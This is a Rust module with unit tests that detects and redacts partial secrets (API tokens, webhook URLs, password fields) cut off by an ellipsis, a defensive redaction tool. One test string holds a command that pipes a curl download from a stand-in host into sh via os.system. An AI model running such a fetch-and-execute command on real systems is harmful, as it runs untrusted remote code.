//! What is left of a secret where a text was cut in the middle of it. No search for whole secrets finds such a
//! beginning, and of a text that a rule decoded no file of the package holds the rest.

use std::ops::Range;
use std::sync::LazyLock;

use memchr::memmem;
use regex::Regex;
use regex_automata::hybrid::dfa::{Cache, DFA};
use regex_automata::util::syntax;
use regex_automata::{Anchored, Input};

use super::shapes::{SHAPES, Shape};

/// What says that a text goes on.
const CUT: char = '…';
/// No shape is known from further before the cut, in bytes.
const LOOK_BYTES: usize = 512;
/// So few characters of a secret may be shown.
const SHOWN: usize = super::SHOWN;

/// The one beginning of a shape that everyday words have too, with letters and nothing else after it.
const WORD: &str = "pat";

/// A value that only its name calls secret.
static NAMED: LazyLock<Regex> = LazyLock::new(|| {
    let words = "password|passwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key";
    let pattern = format!(
        r#"(?i)(?:{words})[a-z0-9_-]{{0,20}}\\?["']?[ \t]{{0,4}}(?::|=>?)[ \t]{{0,4}}\\?(["']?)([a-z0-9+/=_-]{{5,128}})$"#
    );
    Regex::new(&pattern).expect("a test compiles the pattern")
});

/// The beginnings of secrets that end where a text was cut.
pub(super) fn beginnings(text: &str) -> impl Iterator<Item = Range<usize>> {
    text.match_indices(CUT).filter_map(|(cut, _)| {
        let from = text.floor_char_boundary(cut.saturating_sub(LOOK_BYTES));
        let seen = &text[from..cut];
        let start = SHAPES.iter().filter_map(|shape| begun(shape, seen)).min();
        let start = start.or_else(|| named(seen))?;
        Some(from + start..cut)
    })
}

/// Where a token of this shape begins whose end was cut off.
fn begun(shape: &Shape, seen: &str) -> Option<usize> {
    let bytes = seen.as_bytes();
    let mut automaton_of = None;
    let mut begins = |at: usize| {
        let (dfa, cache) = automaton_of.get_or_insert_with(|| {
            let dfa = automaton(shape);
            let cache = dfa.create_cache();
            (dfa, cache)
        });
        (at.saturating_sub(shape.before)..=at).find(|start| goes_on(dfa, cache, bytes, *start))
    };
    let places = shape.needles.iter().flat_map(|needle| {
        // The secret itself may hold the letters again, by chance.
        memmem::find_iter(bytes, needle).map(move |at| (*needle, at))
    });
    places
        .filter(|(needle, at)| {
            let rest = &bytes[at + needle.len()..];
            // What follows is drawn at random, and now and then only small letters are left of it before the cut.
            rest.len() > SHOWN && !(*needle == WORD && rest.iter().all(u8::is_ascii_lowercase))
        })
        .filter_map(|(_, at)| begins(at))
        .min()
}

/// Whether everything from `start` is a match's beginning.
fn goes_on(dfa: &DFA, cache: &mut Cache, bytes: &[u8], start: usize) -> bool {
    let input = Input::new(bytes).range(start..).anchored(Anchored::Yes);
    let Ok(mut state) = dfa.start_state_forward(cache, &input) else { return false };
    for byte in &bytes[start..] {
        match dfa.next_state(cache, state, *byte) {
            Ok(next) if !next.is_dead() && !next.is_quit() => state = next,
            _ => return false,
        }
    }
    true
}

fn automaton(shape: &Shape) -> DFA {
    DFA::builder()
        .syntax(syntax::Config::new().unicode(false).utf8(false))
        .build(shape.pattern)
        .expect("a test compiles every pattern")
}

/// Where the value begins: one in quotation marks, or one that is no word of a program.
fn named(seen: &str) -> Option<usize> {
    let found = NAMED.captures(seen)?;
    let value = found.get(2)?;
    let is_quoted = found.get(1).is_some_and(|quote| !quote.is_empty());
    (is_quoted || value.as_str().bytes().any(|byte| byte.is_ascii_digit())).then(|| value.start())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn left(text: &str) -> String {
        let mut text = text.to_owned();
        let all: Vec<_> = beginnings(&text).collect();
        for range in all.into_iter().rev() {
            text.replace_range(range, "#");
        }
        text
    }

    #[test]
    fn beginnings_of_secrets_are_known_by_their_first_letters() {
        for (text, expected) in [
            ("it reads 'x = ghp_aB3dE5…'", "it reads 'x = #…'"),
            ("it reads 'AKIA2Q5ZT…' and 'sk-ant-api03-Zq8…'", "it reads '#…' and '#…'"),
            ("https://hooks.slack.com/services/T01ABCDEF/B0…", "https://#…"),
            ("https://discord.com/api/webhooks/12345678…", "https://#…"),
            ("12345678:AAb3dE5fG…", "#…"),
            ("'abc8Q~d1E2f3…'", "'#…'"),
            ("password = \"q7Zr2…", "password = \"#…"),
            ("{\\\"api_key\\\": \\\"q7Zr2…", "{\\\"api_key\\\": \\\"#…"),
        ] {
            assert_eq!(left(text), expected);
        }
    }

    #[test]
    fn beginnings_of_small_letters_only_are_no_words() {
        for (text, expected) in [
            ("it reads 'x = gsk_abcdef…'", "it reads 'x = #…'"),
            ("it reads 'x = hf_qwertz…'", "it reads 'x = #…'"),
            ("sk-ant-api…", "#…"),
            ("whsec_abcdefgh…", "#…"),
            ("ghp_abcdefgh…", "#…"),
            ("ghp_abghcdgh…", "#…"),
            ("dapiabcdef…", "#…"),
            ("airlock_abcdefgh…", "#…"),
            ("password = \"qwertzuio…", "password = \"#…"),
            ("{'api_key': 'qwertzuio…", "{'api_key': '#…"),
            ("token = tokens…", "token = tokens…"),
            ("patterns…", "patterns…"),
        ] {
            assert_eq!(left(text), expected);
        }
    }

    #[test]
    fn every_shape_has_an_automaton() {
        for shape in &SHAPES {
            automaton(shape);
        }
        assert_eq!(NAMED.captures_len(), 3);
    }

    #[test]
    fn other_words_that_are_cut_stay() {
        for text in [
            "it reads 'import os; os.system(\"curl https://a.example/x1 | sh…'",
            "patterns…",
            "ghost1234…",
            "sk-…",
            "ghp_a…",
            "the token is a word…",
            "ghp_aB3dE5 and more…",
            "nothing is cut of ghp_aB3dE5",
        ] {
            assert_eq!(left(text), text);
        }
    }
}
